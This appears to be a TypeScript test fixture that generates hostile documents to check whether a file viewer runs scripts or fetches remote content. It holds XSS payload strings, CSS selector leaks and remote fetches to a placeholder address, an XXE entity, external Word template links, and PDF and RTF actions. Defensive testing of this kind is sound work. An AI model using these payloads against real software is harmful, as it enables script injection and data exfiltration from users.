// Sources that attack whoever shows them: words and files that run something, fetch something from `address`, or break
// out of their place. What a script among them would do is set `window.__ran`; what is fetched is counted at the address.

import { bookOf } from './epub-files.ts';
import { crlf, message } from './email-files.ts';
import { hostilePage } from './hostile-page.ts';
import { fodtOf, odtOf } from './odt-files.ts';
import { docxOf } from './office-files.ts';
import { rawPages } from './pdf-files.ts';
import type { ZipEntry } from './zip-writer.ts';

export interface AttackFile {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const run = 'window.__ran=1';
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

/** For every place that shows words: titles, notes, labels, attributes, names of files. */
export const attackWords = (address: string): readonly string[] => [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</style><img src=x onerror="${run}">`,
  `</title></textarea><svg onload="${run}">`,
  `"><img src="${address}/words.png" onerror="${run}">`,
  `' autofocus onfocus='${run}' x='`,
  `--><iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run}>">`,
  `<form id="attributes"><input name="innerHTML"></form>`,
  `red;background:url(${address}/colour.png)`,
  `}</style><style>@import "${address}/words.css";input[value^=a]{background:url(${address}/a)}`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
  `[words](javascript:${run}) ![](${address}/note.png) <javascript:${run}>`,
  `\u202Egnp.<img src=${address}/rtl onerror=${run}>\u202C\u2066\u2069\u200B\uFEFF`,
  '__proto__',
  'constructor',
];

/** Ways to fetch that the hostile page does not have. */
const remotePieces = (address: string): string => `
<link rel="manifest" href="${address}/manifest.json"><link rel="modulepreload" href="${address}/module.js">
<link rel="preconnect" href="${address}"><link rel="icon" href="${address}/icon.png">
<style>@font-face{font-family:f;src:url(${address}/font.woff2)}p{font-family:f;cursor:url(${address}/cursor.cur),auto}
input[value^="a"]{background:image-set(url(${address}/leak.png) 1x)}</style>
<p style="background:url('${address}/inline.png');list-style:url(${address}/list.png)">styled words</p>
<svg><filter id="f"><feImage href="${address}/fe.png"/></filter><style>@import url(${address}/svg.css)</style>
<set attributeName="href" to="javascript:${run}"/><animate attributeName="xlink:href" values="${address}/animated"/></svg>
<embed src="${address}/embed"><track src="${address}/track.vtt"><table background="${address}/table.png"><tr><td>cell</td></tr></table>
<blockquote cite="javascript:${run}">quoted</blockquote><button formaction="javascript:${run}">press</button>`;

/** As a browser saves a page, with a picture that it names but does not hold. */
const savedPage = (page: string, address: string): string =>
  crlf(
    'From: <Saved by Blink>',
    `Snapshot-Content-Location: ${address}/saved.html`,
    'Subject: Saved',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; type="text/html"; boundary="----Boundary7----"',
    '',
    '------Boundary7----',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    `Content-Location: ${address}/saved.html`,
    '',
    page,
    '------Boundary7----',
    'Content-Type: text/css',
    `Content-Location: ${address}/style.css`,
    '',
    `@import "${address}/saved.css"; body { background: url(${address}/saved.png) }`,
    '------Boundary7------',
    '',
  );

/** A file inside a file, whose name is shown with the others. */
const oddName: ZipEntry = { name: `x"><img src=x onerror=${run}>.png`, content: 'x' };

/** What Word would fetch when it opens the document: its template, a picture that is only linked, a frame. */
const wordParts = (address: string): readonly ZipEntry[] => {
  const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const relation = (id: string, kind: string) =>
    `<Relationship Id="${id}" Type="${kinds}/${kind}" Target="${address}/${kind}" TargetMode="External"/>`;
  const all = ['attachedTemplate', 'image', 'frame', 'oleObject', 'subDocument'];
  return [
    oddName,
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.map((kind, at) => relation(`rId${at}`, kind)).join('')}</Relationships>`,
    },
  ];
};

export function attackFiles(address: string): readonly AttackFile[] {
  const page = hostilePage(address).replace('</article>', `${remotePieces(address)}</article>`);
  const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}/entity">]>`;
  const stylesheet = `<?xml-stylesheet href="${address}/sheet.xsl" type="text/xsl"?>`;
  const book = `<p>shownWord in a book</p><img src="${address}/book.png"/><script>${run}</script><a href="javascript:${run}">link</a>`;
  const odt = `<text:p>shownWord in a text <text:a xlink:href="javascript:${run}">link</text:a><draw:frame><draw:image xlink:href="${address}/odt.png"/></draw:frame></text:p>`;
  const docx = `<w:p><w:hyperlink r:id="rId7"><w:r><w:t>shownWord in Word &lt;script&gt;</w:t></w:r></w:hyperlink><w:r><w:instrText> INCLUDEPICTURE "${address}/field.png" </w:instrText></w:r></w:p>`;
  const action = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${address}/annot) >> >>] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`;
  const markdown = attackWords(address).map((words) => `- ${words}\n\n${words}\n`);
  return [
    { name: 'attack.html', bytes: utf8(page) },
    {
      name: 'attack.xhtml',
      bytes: utf8(
        `<?xml version="1.0"?>${stylesheet}${entity}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${book}&e;</body></html>`,
      ),
    },
    {
      name: 'attack.md',
      bytes: utf8(`# A list\n\nshownWord\n\n${markdown.join('\n')}\n${remotePieces(address)}`),
    },
    { name: 'attack.txt', bytes: utf8(`shownWord\n\n${attackWords(address).join('\n\n')}`) },
    { name: 'attack.mhtml', bytes: utf8(savedPage(page, address)) },
    {
      name: 'attack.eml',
      bytes: utf8(
        message(
          ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit'],
          `${page}<img src="cid:one@example.org">`,
        ),
      ),
    },
    {
      name: 'attack.epub',
      bytes: bookOf({ chapters: [{ name: 'one.xhtml', body: book }], extra: [oddName] }),
    },
    { name: 'attack.odt', bytes: odtOf({ body: odt, extra: [oddName] }) },
    {
      name: 'attack.fodt',
      bytes: utf8(fodtOf({ body: odt })),
    },
    {
      name: 'attack.docx',
      bytes: docxOf({
        body: docx,
        links: { rId7: `${address}/docx-link`, rId8: `javascript:${run}` },
        extra: wordParts(address),
      }),
    },
    {
      name: 'attack.pdf',
      bytes: rawPages(
        [
          {
            content: 'BT /F1 12 Tf 72 700 Td (shownWord on a page that has an action.) Tj ET',
            entries: action,
          },
        ],
        { catalog: `/OpenAction << /S /URI /URI (${address}/open) >>` },
      ),
    },
    {
      name: 'attack.rtf',
      bytes: utf8(
        `{\\rtf1 shownWord in rich text {\\field{\\*\\fldinst HYPERLINK "javascript:${run}"}{\\fldrslt link}}{\\field{\\*\\fldinst INCLUDEPICTURE "${address}/rtf.png"}{\\fldrslt x}}}`,
      ),
    },
    { name: `"><img src=x onerror=${run}>.bin`, bytes: new Uint8Array(64) },
  ];
}
